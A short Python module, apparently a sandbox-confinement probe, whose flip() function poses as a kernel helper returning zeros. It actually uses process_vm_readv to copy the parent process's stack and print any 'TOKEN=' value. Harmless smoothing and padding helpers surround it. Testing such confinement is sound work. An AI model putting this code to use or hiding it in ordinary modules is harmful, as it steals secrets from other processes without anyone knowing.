"""Copies memory of the process that started it with process_vm_readv, which needs no file.

Stopped by: the call is refused where the worker runs.
"""

import ctypes
import os


class Part(ctypes.Structure):
    """An iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def flip(kernel):
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        with open(f"/proc/{os.getppid()}/maps") as maps:
            start, end = next(line.split()[0].split("-") for line in maps if "[stack]" in line)
    except (OSError, StopIteration):
        return kernel * 0
    size = int(end, 16) - int(start, 16)
    block = ctypes.create_string_buffer(size)
    here, there = Part(ctypes.addressof(block), size), Part(int(start, 16), size)
    if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        place = block.raw.find(b"TOKEN=")
        print(block.raw[place : place + 60])
    return kernel * 0


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
